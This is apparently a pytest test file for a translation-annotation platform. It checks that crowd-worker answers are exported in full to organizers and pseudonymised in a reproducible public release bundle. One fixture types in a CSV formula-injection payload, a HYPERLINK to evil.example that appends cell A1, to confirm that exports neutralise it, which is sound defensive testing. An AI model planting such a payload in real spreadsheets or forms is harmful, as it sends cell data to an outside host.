"""The crowd answers in the campaign's exports and the release bundle: the organizer's files (panel ids, codes,
every answer), the public's (pseudonymous raters, no panel id, e-mail, code string or private answer), formulas
neutralised, the zip's bytes the same on a rebuild, and nothing added to a campaign without a crowd setup."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from tests.support.campaigns import annotate_all, new_campaign, read_all, set_testset_released
from tests.support.crowd import arrive_by_links, lait_answers, link_items, tutorial_text

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
SECRET_NAME = "Ada Quillfeather"
PANELS = ("PANEL-A7", "PANEL-B9")
CODES = {"pass_code": "PASS123", "fail_code": "FAIL999", "threshold": "0.75"}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _setup(world, cid: int) -> None:
    org = world.client("org@example.org")
    resp = org.post(f"/campaigns/{cid}/crowd/setup", content_type="multipart/form-data", data={
        "welcome_ready": "lait", "tutorial_file": (io.BytesIO(tutorial_text().encode()), "tutorial.json"), **CODES})
    assert resp.status_code == 302, resp.get_data(as_text=True)[:1500]


@pytest.fixture
def crowd(world):
    """A released MQM campaign with the LAIT form, the two-item tutorial and codes: two link annotators answered
    (the first with a formula as nationality and as a gender of its own, its name and panel id typed in; wrong
    at the first try of the loud item: the fail code), finished their items; the test set is released."""
    from enface.campaigns import services as svc

    cid = new_campaign(world, annotators=(), redundancy=1, systems=["zephyr-mt"], start=False)
    _setup(world, cid)
    first, second = arrive_by_links(world, cid, panel_ids=PANELS)
    welcome = {first: lait_answers(full_name=SECRET_NAME, participant_id=PANELS[0], nationality=FORMULA,
                                   gender={"other": FORMULA}, ai_uses="I " + PANELS[0] + " use it for mail"),
               second: lait_answers(full_name="Bo Second", participant_id=PANELS[1], nationality="Polish")}
    tutorial = {first: [{"item": "t1", "span": "0:3", "severity": "Major"}, {"item": "t1", "span": "4:8",
                                                                              "severity": "Major"}],
                second: [{"item": "t1", "span": "4:8", "severity": "Major"}]}
    for c in (first, second):
        assert c.post(f"/crowd/c/{cid}/welcome", data=welcome[c]).status_code == 302
        for form in tutorial[c] + [{"item": "t2", "span_none": "1"}]:
            assert c.post(f"/crowd/c/{cid}/tutorial", data=form).status_code in (200, 302)
    with world.ctx():
        svc.start_campaign(svc.get_campaign(cid))
    for c in (first, second):
        for public_id in link_items(world, c, cid):
            assert read_all(c, public_id, _segments(world, public_id)).status_code == 200
            assert c.post(f"/annotate/api/items/{public_id}/finish", json={}).status_code == 200
        assert c.get(f"/crowd/c/{cid}/done").status_code == 200
    with world.ctx():
        svc.release(svc.get_campaign(cid))
    set_testset_released(world)
    return cid


def _segments(world, public_id: str) -> int:
    from enface.campaigns.models import Assignment
    from enface.extensions import db
    from sqlalchemy import select

    with world.ctx():
        item = db.session.scalar(select(Assignment).where(Assignment.public_id == public_id)).item
        return item.seg_end - item.seg_start


def _link_emails(world, cid: int) -> list[str]:
    from enface.crowd.models import CampaignLink
    from enface.extensions import db
    from enface.models import User
    from sqlalchemy import select

    with world.ctx():
        return [db.session.get(User, link.user_id).email for link in db.session.scalars(
            select(CampaignLink).where(CampaignLink.campaign_id == cid))]


def _raters_by_panel(world, cid: int) -> dict[str, str]:
    from enface.campaigns.models import CampaignAnnotator
    from enface.crowd.models import CampaignLink
    from enface.extensions import db
    from sqlalchemy import select

    with world.ctx():
        return {link.label: db.session.scalar(select(CampaignAnnotator).where(
            CampaignAnnotator.campaign_id == cid, CampaignAnnotator.user_id == link.user_id)).rater
            for link in db.session.scalars(select(CampaignLink).where(CampaignLink.campaign_id == cid))}


def test_the_organizers_export_holds_every_crowd_answer_with_panel_ids_and_codes(world, crowd, cli):
    org = world.client("org@example.org")
    dashboard = org.get(f"/campaigns/{crowd}").get_data(as_text=True)
    assert f"/campaigns/{crowd}/export.crowd.csv" in dashboard and f"/campaigns/{crowd}/export.crowd.json" in dashboard
    resp = org.get(f"/campaigns/{crowd}/export.crowd.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert f"campaign-{crowd}.crowd.csv" in resp.headers["Content-Disposition"]
    rows = _rows(resp.get_data(as_text=True))
    raters = _raters_by_panel(world, crowd)
    a, b = raters[PANELS[0]], raters[PANELS[1]]
    mine = {(r["rater"], r["kind"], r["key"]): r for r in rows}
    assert {r["panel_id"] for r in rows} == set(PANELS)
    assert all(r["panel_id"] == PANELS[0] for r in rows if r["rater"] == a)
    # the welcome form: one row per annotator and answerable question, private ones included
    from enface.crowd.welcome import load_form

    questions = [q.id for q in load_form("lait").answerable]
    assert [r["key"] for r in rows if r["rater"] == a and r["kind"] == "welcome"] == questions
    assert mine[(a, "welcome", "full_name")]["answer"] == SECRET_NAME
    assert mine[(a, "welcome", "consent")]["answer"] == "yes"
    assert mine[(a, "welcome", "nationality")]["answer"] == "'" + FORMULA      # no formula runs
    assert mine[(a, "welcome", "gender")]["answer"] == "other: " + FORMULA
    # the tutorial: right in the end, at the first try or not, the attempts, the last answer
    t1 = mine[(a, "tutorial", "t1")]
    assert (t1["correct"], t1["first_correct"], t1["attempts"]) == ("yes", "no", "2")
    assert json.loads(t1["answer"]) == {"span": [4, 8], "severity": "Major"}
    assert (mine[(b, "tutorial", "t1")]["first_correct"], mine[(b, "tutorial", "t1")]["attempts"]) == ("yes", "1")
    # the completion: the code's kind and the code itself
    done_a, done_b = mine[(a, "completion", "code")], mine[(b, "completion", "code")]
    assert (done_a["answer"], done_a["code"], done_a["correct"], done_a["right"], done_a["total"]) == (
        "fail", "FAIL999", "no", "1", "2")
    assert (done_b["answer"], done_b["code"], done_b["correct"]) == ("pass", "PASS123", "yes")
    # the same as JSON from the command line
    out = json.loads(cli("campaign", "export", str(crowd), "--format", "crowd.json"))
    by_rater = {r["rater"]: r for r in out["annotators"]}
    assert by_rater[a]["panel_id"] == PANELS[0] and by_rater[a]["welcome"]["full_name"] == SECRET_NAME
    assert by_rater[a]["welcome"]["nationality"] == FORMULA          # (data for programs: as typed)
    assert by_rater[a]["completion"]["code"] == "FAIL999" and by_rater[b]["completion"]["code_given"] == "pass"
    assert [t["attempts"] for t in by_rater[a]["tutorial"]] == [2, 1]
    assert by_rater[a]["tutorial"][0]["answers"] == [{"span": [0, 3], "severity": "Major"},
                                                     {"span": [4, 8], "severity": "Major"}]
    assert out["tutorial_items"] == ["t1", "t2"] and [q["id"] for q in out["questions"]] == questions


def _zip(world) -> tuple[zipfile.ZipFile, bytes]:
    resp = world.client().get(f"/browse/{world.testset_id}/downloads/release.zip")
    assert resp.status_code == 200, resp.status_code
    return zipfile.ZipFile(io.BytesIO(resp.data)), resp.data


def test_the_release_bundle_holds_them_pseudonymised(world, crowd):
    zf, data = _zip(world)
    files = {n.split("/", 1)[1]: n for n in zf.namelist()}
    crowd_files = sorted(p for p in files if p.startswith("annotations/") and ".crowd." in p)
    assert [p.rsplit(".", 2)[-2:] for p in crowd_files] == [["crowd", "csv"], ["crowd", "json"]]
    assert all(p.startswith(f"annotations/{crowd}-") for p in crowd_files)
    text = {p: zf.read(n).decode() for p, n in files.items()}
    everything = "\n".join(text.values())
    # no panel id, no e-mail, no completion code, no private answer anywhere in the release
    for needle in (*PANELS, "PASS123", "FAIL999", SECRET_NAME, "Bo Second", "@links.", *_link_emails(world, crowd)):
        assert needle not in everything, needle
    rows = _rows(text[crowd_files[0]])
    assert list(rows[0]) == ["rater", "kind", "key", "answer", "correct", "first_correct", "attempts", "right",
                             "total", "threshold"]
    raters = _raters_by_panel(world, crowd)
    a, b = raters[PANELS[0]], raters[PANELS[1]]
    mine = {(r["rater"], r["kind"], r["key"]): r for r in rows}
    # the same rater labels as the protocol's own released annotations
    import mqm

    tsv = next(p for p in files if p.startswith(f"annotations/{crowd}-") and p.endswith(".tsv"))
    assert {r["rater"] for r in rows} == {a, b} and {a, b} <= set(mqm.parse_tsv(text[tsv], path="r.tsv").raters)
    keys = {r["key"] for r in rows if r["kind"] == "welcome"}
    assert {"consent", "age", "gender", "nationality", "ai_models"} <= keys
    assert not keys & {"full_name", "participant_id", "consent_date", "ai_uses"}       # private questions
    assert mine[(a, "welcome", "nationality")]["answer"] == "'" + FORMULA
    assert (mine[(a, "tutorial", "t1")]["first_correct"], mine[(a, "tutorial", "t1")]["attempts"]) == ("no", "2")
    assert (mine[(a, "completion", "code")]["answer"], mine[(b, "completion", "code")]["answer"]) == ("fail", "pass")
    released = json.loads(text[crowd_files[1]])
    assert {r["rater"] for r in released["annotators"]} == {a, b}
    assert all("panel_id" not in r and "code" not in r.get("completion", {}) for r in released["annotators"])
    assert "full_name" not in {q["id"] for q in released["questions"]}
    readme = text["README.md"]
    assert "Crowd answers (CSV, pseudonymous raters)" in readme and ".crowd.csv" in readme
    # the public export of the released campaign is the release's file, not the organizer's
    public = world.client().get(f"/campaigns/{crowd}/export.crowd.csv")
    assert public.status_code == 200 and public.data.decode() == text[crowd_files[0]]
    results = world.client().get(f"/campaigns/{crowd}/results")
    assert results.status_code == 200
    # a rebuild (the cache dropped) gives the same bytes; no file carries the clock's date
    with world.ctx():
        from flask import current_app

        current_app.extensions["enface_browse_caches"].clear()
    again = _zip(world)[1]
    assert again == data
    assert {i.date_time for i in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_campaign_without_a_crowd_setup_gets_no_crowd_files(world):
    from enface.campaigns import services as svc
    from enface.campaigns.exports import campaign_exports
    from enface.campaigns.protocol import export_table, protocol_of

    cid = new_campaign(world, redundancy=1)
    annotate_all(world, cid, release=True)
    set_testset_released(world)
    with world.ctx():
        c = svc.get_campaign(cid)
        protocol_table = export_table(protocol_of(c))
        for public in (True, False):
            table = campaign_exports(c, public=public)
            assert list(table) == list(protocol_table)
            assert all(table[f].writer(c) == protocol_table[f].writer(c) for f in table)
    org = world.client("org@example.org")
    assert org.get(f"/campaigns/{cid}/export.crowd.csv").status_code == 404
    assert "crowd.csv" not in org.get(f"/campaigns/{cid}").get_data(as_text=True)
    zf, _ = _zip(world)
    names = [n for n in zf.namelist() if "/annotations/" in n]
    assert names and not any(".crowd." in n for n in names)
    assert sorted(n.rsplit(f"{cid}-", 1)[1].split(".", 1)[1] for n in names) == sorted(
        e.extension for e in protocol_table.values())


def test_the_crowd_files_come_with_any_protocol(world):
    """An ESA campaign (exports of the older tuple form) with completion codes only gets the same two files."""
    from enface.campaigns import services as svc
    from enface.campaigns.exports import campaign_exports
    from enface.campaigns.protocol import export_table, protocol_of

    from tests.protocols.esa.esa_helpers import esa_campaign

    cid = esa_campaign(world, start=False, annotators=())
    assert world.client("org@example.org").post(f"/campaigns/{cid}/crowd/setup", data=CODES).status_code == 302
    with world.ctx():
        c = svc.get_campaign(cid)
        own = list(export_table(protocol_of(c)))
        assert list(campaign_exports(c, public=False)) == own + ["crowd.csv", "crowd.json"]
        text = campaign_exports(c, public=True)["crowd.csv"].writer(c)
    assert text == "rater,kind,key,answer,correct,first_correct,attempts,right,total,threshold\n"


def test_private_questions_default_to_the_text_ones():
    from enface.crowd.welcome import parse_form
    from enface.services import ServiceError

    form = parse_form({"questions": [
        {"id": "name", "type": "text", "text": "Name"}, {"id": "town", "type": "text", "text": "Town", "private": False},
        {"id": "age", "type": "choice", "text": "Age", "options": ["young", "old"]},
        {"id": "day", "type": "date", "text": "Day", "private": True}]})
    assert [q.id for q in form.public] == ["town", "age"]
    assert parse_form(form.to_json()) == form                # stored and read back the same
    with pytest.raises(ServiceError) as exc:
        parse_form({"questions": [{"id": "a", "type": "text", "text": "x", "private": "no"}]})
    assert "private must be true or false" in exc.value.message
